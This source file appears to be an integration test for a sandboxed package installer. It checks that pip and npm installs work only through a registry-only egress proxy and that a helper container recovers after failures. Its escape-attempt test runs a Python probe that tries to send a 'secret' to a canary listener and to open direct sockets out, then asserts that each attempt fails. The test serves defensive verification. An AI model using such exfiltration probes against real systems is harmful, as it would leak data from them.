// The default fetch network, for real: the fetch container sits on the internal network with no route out
// and reaches this run's registries only through safe-install's egress proxy. A pip install with an sdist
// (fetch, offline build, adopt) and an npm install from the npm registry go through it; from inside a
// fetch container, the proxy refuses a host that is not a registry of the run (the canary listener gets
// nothing), a direct connection has no route, and the registry is not reachable around the proxy.
import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import Docker from 'dockerode';
import { DockerodeEngine } from '../../shared/src/sandbox/docker';
import { openFetchNetwork, REGISTRY_ONLY } from '../../shared/src/sandbox/egress/fetchNetwork';
import { fetchEnvironment } from '../../shared/src/sandbox/environment';
import { DEFAULT_LIMITS } from '../../shared/src/sandbox/hardening';
import { sandboxInstall, type InstallRequest } from '../../shared/src/sandbox/installer';
import { spawnProcess } from '../../shared/src/sandbox/local/process';
import { SandboxSession } from '../../shared/src/sandbox/session';
import { requireInfra, testImage, testImageRef } from '../support/infra';
import { buildSdist, buildWheel, serveSimpleIndex, type SimpleIndex } from './pypiFixtures';

const NPM_REGISTRY = process.env.SAFE_INSTALL_TEST_NPM_REGISTRY ?? 'https://registry.npmjs.org';

let index: SimpleIndex;
let canary: http.Server;
let canaryHits = 0;
let work: string;

before(async () => {
  canary = http.createServer((req, res) => { canaryHits++; res.end('stolen'); });
  await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
  index = await serveSimpleIndex([
    buildWheel('si-ro-alpha', '1.0', { requires: ['si-ro-gamma'] }),
    buildSdist('si-ro-gamma', '1.0'),
  ]);
  work = await mkdtemp(path.join(os.tmpdir(), 'si-registry-only-'));
});

after(async () => {
  await index.close();
  canary.close();
  await rm(work, { recursive: true, force: true });
});

test('pip: resolve, sdist download, offline build and adopt all work through the registry-only network', async (t) => {
  if (!requireInfra(t, await testImage('python'))) return;
  const dir = await mkdtemp(path.join(work, 'pip-'));
  const venv = await spawnProcess('python3', ['-m', 'venv', path.join(dir, '.venv')], { cwd: dir, env: process.env });
  if (venv.code !== 0) return t.skip(`python3 -m venv failed: ${venv.stderr.trim()}`);
  const request: InstallRequest = { ecosystem: 'PyPI', packages: ['si-ro-alpha'], projectDir: dir, dryRun: false, binaryOnly: false, ci: true, networkMode: REGISTRY_ONLY, registry: index.url, allowScripts: [], limits: { ...DEFAULT_LIMITS, timeoutMs: 300_000 }, images: { PyPI: testImageRef('python') }, python: path.join(dir, '.venv', 'bin', 'python') };
  const report = await sandboxInstall(request, { engine: new DockerodeEngine(), run: spawnProcess, env: process.env });
  assert.equal(report.verdict, 'installed', `${report.message}\n${report.notes.join('\n')}`);
  assert.deepEqual(report.packages.map((p) => p.name).sort(), ['si-ro-alpha', 'si-ro-gamma']);
  const networks = [...new Set(report.phases.filter((p) => p.phase === 'fetch' || p.phase === 'build').map((p) => `${p.phase}:${p.network ?? ''}`))].sort();
  assert.deepEqual(networks, ['build:none', 'fetch:registry-only']);
  const note = report.notes.find((n) => n.startsWith('fetch network: registry-only'));
  assert.ok(note?.includes(new URL(index.url).host), report.notes.join('\n'));
  assert.ok(!report.notes.some((n) => n.includes('refused')), report.notes.join('\n'));
});

test('npm: a tree from the npm registry comes through the registry-only network', async (t) => {
  if (!requireInfra(t, await testImage('node'))) return;
  const dir = await mkdtemp(path.join(work, 'npm-'));
  await writeFile(path.join(dir, 'package.json'), '{"name":"p","version":"1.0.0","private":true}\n');
  const request: InstallRequest = { ecosystem: 'npm', packages: ['is-odd@3.0.1'], projectDir: dir, dryRun: false, binaryOnly: false, ci: true, networkMode: REGISTRY_ONLY, registry: NPM_REGISTRY, allowScripts: [], limits: { ...DEFAULT_LIMITS, timeoutMs: 300_000 }, images: { npm: testImageRef('node') } };
  const report = await sandboxInstall(request, { engine: new DockerodeEngine(), run: spawnProcess, env: process.env });
  if (report.verdict === 'failed' && /ENOTFOUND|EAI_AGAIN|ECONNREFUSED|cannot resolve/i.test(report.message)) return t.skip(`npm registry not reachable from this machine: ${report.message}`);
  assert.equal(report.verdict, 'installed', `${report.message}\n${report.notes.join('\n')}`);
  assert.deepEqual(report.packages.map((p) => p.name).sort(), ['is-number', 'is-odd']);
  assert.ok(report.phases.some((p) => p.phase === 'fetch' && p.network === 'registry-only'));
});

test('inside a registry-only fetch container: other hosts are refused, there is no route out, and no way around the proxy', async (t) => {
  const image = requireInfra(t, await testImage('python'));
  if (!image) return;
  const engine = new DockerodeEngine();
  const network = await openFetchNetwork({ mode: REGISTRY_ONLY, engine, image, registryUrls: [index.url], allowedHosts: [], hostEnv: {} });
  const canaryPort = (canary.address() as AddressInfo).port;
  const fetchEnv = await fetchEnvironment(process.env);
  const session = new SandboxSession({ engine, image, fetchNetwork: network.dockerMode, fetchNetworkLabel: network.label, ...(network.joinNetworkOf !== undefined ? { fetchJoinNetworkOf: network.joinNetworkOf } : {}), limits: { ...DEFAULT_LIMITS, timeoutMs: 120_000 }, fetchEnv: { ...network.env }, readOnlyFiles: fetchEnv.files, progress: () => undefined });
  // Each probe prints one line: what happened. Fixed program; the addresses arrive as argv.
  const probe = [
    'import os, socket, sys, urllib.request, urllib.error',
    'canary, index, blackhole = sys.argv[1], sys.argv[2], sys.argv[3]',
    'def get(url):',
    '    try:',
    '        return "status %d" % urllib.request.urlopen(url, timeout=10).status',
    '    except urllib.error.HTTPError as e:',
    '        return "status %d" % e.code',
    '    except Exception as e:',
    '        return "error %s" % type(e).__name__',
    'def direct(host, port):',
    '    try:',
    '        socket.create_connection((host, int(port)), timeout=3).close()',
    '        return "connected"',
    '    except OSError as e:',
    '        return "error %s" % type(e).__name__',
    'print("proxy-index", get(index))',
    'print("proxy-canary", get(canary))',
    'h, p = canary.split("//")[1].split("/")[0].split(":")',
    'print("direct-canary", direct(h, p))',
    'print("direct-out", direct(blackhole, 80))',
  ].join('\n');
  let output = '';
  try {
    const { value } = await session.phase('fetch', (r) => r.run({ label: 'escape attempts', argv: ['python3', '-I', '-c', probe, `http://127.0.0.1:${canaryPort}/steal?secret=1`, `${index.url.replace(/\/?$/, '/')}si-ro-alpha/`, '192.0.2.1'] }));
    output = value.stdout;
  } finally {
    await session.close();
    await network.close();
  }
  const lines = Object.fromEntries(output.trim().split('\n').map((l) => [l.split(' ')[0], l.split(' ').slice(1).join(' ')]));
  assert.equal(lines['proxy-index'], 'status 200', output);
  assert.equal(lines['proxy-canary'], 'status 403', output);
  assert.match(lines['direct-canary'] ?? '', /^error/, 'the host\'s loopback is not the container\'s');
  assert.match(lines['direct-out'] ?? '', /^error/, 'no route out of the internal network');
  assert.equal(canaryHits, 0, 'the canary listener got nothing');
  assert.ok(network.refused().some((d) => d.port === canaryPort), 'the proxy recorded the refusal');
  // The holder whose namespace fetch containers join belongs to no run: a sweep of dead runs leaves it running.
  // (Only runs whose process is gone are swept, so concurrently running test files keep theirs.)
  const alive = (pid: number): boolean => { try { process.kill(pid, 0); return true; } catch { return false; } };
  await engine.sweep({ isOwnerAlive: alive, maxAgeMs: 24 * 3600_000, now: Date.now() });
  const again = await engine.egressNetwork(image);
  assert.equal(again.holder, network.joinNetworkOf);
});

test('the holder heals: stopped, it is started again; its network removed, both are made again', async (t) => {
  const image = requireInfra(t, await testImage('python'));
  if (!image) return;
  // Its own network and holder: stopping the shared holder would cut off installs running beside this test.
  const names = { network: `si-test-fetch-${process.pid}`, holder: `si-test-fetch-net-${process.pid}` };
  const engine = new DockerodeEngine({ egressNames: names });
  const docker = new Docker();
  t.after(async () => {
    await docker.getContainer(names.holder).remove({ force: true }).catch(() => undefined);
    await docker.getNetwork(names.network).remove().catch(() => undefined);
  });
  const first = await engine.egressNetwork(image);
  assert.equal(first.name, names.network);
  // A stopped holder (as after an engine restart) is started again, the same container.
  await docker.getContainer(first.holder!).stop({ t: 0 });
  const restarted = await engine.egressNetwork(image);
  assert.equal(restarted.holder, first.holder);
  assert.equal((await docker.getContainer(first.holder!).inspect()).State.Running, true);
  // Network pruned while the holder was stopped: the holder cannot start on it any more, so both are made afresh.
  await docker.getContainer(first.holder!).stop({ t: 0 });
  await docker.getNetwork(names.network).remove();
  const healed = await engine.egressNetwork(image);
  assert.notEqual(healed.holder, first.holder);
  assert.equal((await docker.getContainer(healed.holder!).inspect()).State.Running, true);
});
